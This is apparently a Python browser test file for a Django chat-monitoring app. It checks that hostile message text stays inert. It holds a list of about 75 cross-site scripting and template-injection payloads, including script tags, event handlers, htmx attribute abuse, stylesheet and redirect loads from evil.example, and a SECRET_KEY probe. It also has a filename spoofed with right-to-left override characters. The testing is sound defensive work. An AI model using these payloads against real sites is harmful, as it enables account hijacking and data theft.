"""Hostile text stays text: a list of payloads in every place where somebody else's words are shown."""

import pytest
from django.test import Client
from playwright.sync_api import expect
from tests.hub.browser import Desk
from tests.hub.fake_house import FakeHouse, identity

from fairwitness.followers.views import Reaction
from fairwitness.model.event import Media

RUN = "alert('ran')"
PAYLOADS = (
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script\x0b>{RUN}</script>",
    f"<script>/*</script>*/{RUN}</script>",
    "<script src=//evil.example/x.js></script>",
    "<script src=data:,alert('ran')></script>",
    f"</mark><script>{RUN}</script>",
    f"</bdi></p></article><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"--><script>{RUN}</script>",
    f"]]><script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f'"><img src=x onerror={RUN}>',
    f"'><img src=x onerror={RUN}>",
    f"`><img src=x onerror={RUN}>",
    f"<img/src=x/onerror={RUN}>",
    f"<img src=x\nonerror={RUN}>",
    f"<img src=x onerror\x0c={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href=\"javascript:{RUN}\"><text>x</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href=1 onerror=alert(1) /></svg>#x\">",
    f"<math><mi//xlink:href=\"data:x,<script>{RUN}</script>\">",
    f"<body onload={RUN}>",
    f"<iframe src=\"javascript:{RUN}\">",
    f"<iframe srcdoc=\"<script>parent.{RUN}</script>\">",
    f"<object data=\"javascript:{RUN}\">",
    f"<embed src=\"javascript:{RUN}\">",
    f"<a href=\"javascript:{RUN}\">click</a>",
    f"<a href=\"java\tscript:{RUN}\">click</a>",
    f"<form action=\"javascript:{RUN}\"><button>go</button></form>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}>",
    f"<textarea autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<marquee onstart={RUN}>",
    f"<div onmouseover={RUN}>over</div>",
    f"\" onmouseover={RUN} x=\"",
    f"' onmouseover={RUN} x='",
    f"\" autofocus onfocus={RUN} x=\"",
    f"\" style=\"animation:x\" onanimationstart={RUN} x=\"",
    "<style>@import '//evil.example/x.css';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
    "<base href=//evil.example/>",
    f"<div hx-get=\"/account/sign-out/\" hx-trigger=\"load\" hx-on:load=\"{RUN}\">",
    f"<div hx-on--load=\"{RUN}\" data-hx-on=\"load: {RUN}\">",
    f"<div hx-vals='js:{{x: {RUN}}}' hx-post=/preferences/ hx-trigger=load>",
    "<button data-key=\"j\" data-open=\"keys\">x</button>",
    f"<template><script>{RUN}</script></template>",
    f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\">",
    "{{7*7}}{% debug %}{{ settings.SECRET_KEY }}",
    "${alert('ran')}#{alert('ran')}<%= alert('ran') %>",
    f"javascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"\\x3cscript\\x3e{RUN}\\x3c/script\\x3e",
    f"＜script＞{RUN}＜/script＞",
    f"\u202e<script>{RUN}</script>\u202c",
    f"<scr\x00ipt>{RUN}</scr\x00ipt>",
    f"\ufeff<script>{RUN}</script>",
    "\u2028\u2029<!--<script>",
    "%3Cscript%3Ealert('ran')%3C/script%3E",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    "<a id=htmx><a id=panes><form name=body>",
    "\ud83d<script>",
    "x" * 3000 + f"<script>{RUN}</script>",
)  # fmt: skip


@pytest.fixture
def hostile(firm: FakeHouse) -> list[str]:
    """The alerts of conversations in which every word that somebody else chose is a payload."""
    line = identity("line +5511940000001")
    alerts = []
    for number, payload in enumerate(PAYLOADS):
        chat = f"user:<{payload}>{number // 25}"
        firm.names[chat] = payload
        index = firm.message(
            line, chat, f"garantido {payload}", id=f"w{payload}", sender_name=payload, forwarded=bool(number % 2),
            direction="in", reply_to="gone", reply_text=payload, subtype="document",
            media=(Media(kind=payload, mime=payload, filename=payload, sha256=payload),),
            reactions=(Reaction(1, payload, payload, 1),), details=((payload, payload),), stream=identity(f"hostile {number // 25}"),
        )  # fmt: skip
        alerts.append(
            firm.raise_alert(
                index, "garantido", title=payload, sentence=payload, term=payload, policy=f"p/{number}"
            )
        )
    return alerts


def test_there_are_enough_of_them():
    assert len(set(PAYLOADS)) == len(PAYLOADS) >= 70


def test_nothing_of_it_runs_in_a_real_browser(hostile: list[str], desk: Desk, firm: FakeHouse):
    page = desk.page()
    stream = identity("hostile 0")
    places = [
        "/inbox/?limit=500", *(f"/inbox/{hostile[place]}/" for place in (0, 12, 30, 55, len(hostile) - 1)),
        f"/conversations/{stream}/?entry={firm.findings[hostile[12]][0]}", "/today/", "/people/", "/record/",
    ]  # fmt: skip
    for place in places:
        page.goto(place)
        page.wait_for_load_state("load")
        for element in page.locator(".proof summary, .queue-row").all()[:6]:
            element.hover()
        for summary in page.locator(".proof summary").all()[:3]:
            summary.click()
        assert page.evaluate("window.ran") == [], place
        foreign = "script:not([src^='/static/']), iframe, object, embed, marquee, video, audio, math, base, template, [onerror], [onload]"
        assert page.locator(foreign).count() == 0, place
        assert page.url.startswith(desk.address), place


def test_what_htmx_puts_into_a_page_runs_no_more_than_what_was_there(hostile: list[str], desk: Desk):
    page = desk.page()
    page.goto("/inbox/?limit=500")
    for place in (3, 20, 40):
        page.locator(f'[data-alert="{hostile[place]}"]').click()
        page.wait_for_selector(f'form[action*="{hostile[place]}/close"]')
        assert page.evaluate("window.ran") == []


def test_every_payload_is_shown_as_it_was_written(hostile: list[str], firm: FakeHouse, desk: Desk):
    page = desk.page()
    for block in range(0, len(PAYLOADS), 25):
        stream = identity(f"hostile {block // 25}")
        page.goto(f"/conversations/{stream}/?entry={firm.findings[hostile[block + 5]][0]}")
        for number in range(block, min(block + 20, len(PAYLOADS))):
            index = firm.findings[hostile[number]][0]
            said = page.locator(f"#entry-{index} .words").inner_text()
            assert "garantido" in said
            plain = PAYLOADS[number]
            if plain.isprintable() and "\u202e" not in plain:
                assert said == f"garantido {plain}", plain


LONG = {
    "one word": "W" * 10_000,
    "faces": "👩‍👩‍👧‍👦" * 500,
    "stacked marks": "Z" + "\u0300\u0316" * 2_000,
    "turned around": "\u202e" * 40 + "moc.live" + "\u2066" * 40 + "אבג" * 200,
    "nothing to see": "\u200b" * 5_000 + "a",
    "lines": "a\n" * 2_000,
    "wide": "﷽" * 300,
}


@pytest.mark.parametrize("width", [1440, 390])
def test_long_and_odd_words_leave_every_screen_whole(width: int, firm: FakeHouse, desk: Desk):
    alerts = []
    for name, odd in LONG.items():
        line = firm.enrol(odd[:200], f"+55119999{len(alerts):05d}", department=odd[:200], region=odd[:200], email=odd[:200])
        chat = f"user:{name}"
        firm.names[chat] = odd
        index = firm.message(
            line, chat, f"garantido {odd}", sender_name=odd, reply_to="gone", reply_text=odd, subtype="document",
            media=(Media(kind="document", mime=odd[:300], filename=odd, sha256=odd[:300]),), details=((odd[:300], odd),),
            reactions=(Reaction(1, odd, odd, 1),),
        )  # fmt: skip
        alerts.append(firm.raise_alert(index, "garantido", title=odd, policy=odd[:200], term=odd, severity="critical"))
        firm.raise_alert(index, odd, policy=f"odd {name}", severity="critical")
    page = desk.page(width=width)
    places = ["/today/", "/inbox/", "/people/", f"/people/{identity('person ' + LONG['one word'][:200])}/", "/record/"]
    found = {}
    for place in [*places, *(f"/inbox/{alert}/" for alert in alerts)]:
        page.goto(place)
        found |= {place: beyond} if (beyond := page.evaluate(_BEYOND)) else {}
    assert found == {}
    administrator = desk.page("administrator", width=width)
    administrator.goto("/people/")
    assert administrator.evaluate(_BEYOND) == []


# Elements that people see and that reach beyond the window sideways, unless what holds them scrolls or cuts.
_BEYOND = '''[...document.querySelectorAll("main *")].filter((element) => {
  const box = element.getBoundingClientRect();
  if (!box.width || !box.height || element.closest("svg, .hidden-text, [hidden]")) return false;
  if (box.left >= -1 && box.right <= innerWidth + 1) return false;
  for (let holder = element.parentElement; holder; holder = holder.parentElement) {
    if (getComputedStyle(holder).overflowX !== "visible") return false;
  }
  return true;
}).map((element) => element.outerHTML.slice(0, 120)).concat(document.documentElement.scrollWidth > innerWidth ? ["page"] : [])'''


def test_what_fired_is_on_screen_however_long_the_rest_is(firm: FakeHouse, desk: Desk):
    line, odd = identity("line +5511940000001"), LONG["one word"]
    file = Media(kind="document", mime="text/plain", filename=odd)
    index = firm.message(
        line, "user:x", f"{odd} garantido {odd}", sender_name=odd, reply_to="gone", reply_text=odd, subtype="document", media=(file,)
    )
    page = desk.page()
    page.goto(f"/inbox/{firm.raise_alert(index, 'garantido', title=odd)}/")
    expect(page.locator(".chat mark.hit")).to_be_in_viewport()
    expect(page.locator(".why mark.hit").first).to_be_in_viewport()


def test_a_file_name_cannot_hide_its_type(firm: FakeHouse, reviewer: Client):
    line = identity("line +5511940000001")
    file = Media(kind="document", mime="application/x-msdownload", filename="nota\u202egpj.\u200bexe")
    index = firm.message(line, "user:x", "garantido", subtype="document", media=(file,))
    page = reviewer.get(f"/inbox/{firm.raise_alert(index, 'garantido')}/").content.decode()
    assert "nota\ufffdgpj.\ufffdexe" in page
    assert "application/x-msdownload" in page


def test_a_name_that_turns_the_line_around_turns_nothing_else(firm: FakeHouse, reviewer: Client):
    page = reviewer.get("/inbox/").content.decode()
    assert '<bdi dir="auto">مريم \u202egpj.exe</bdi>' in page
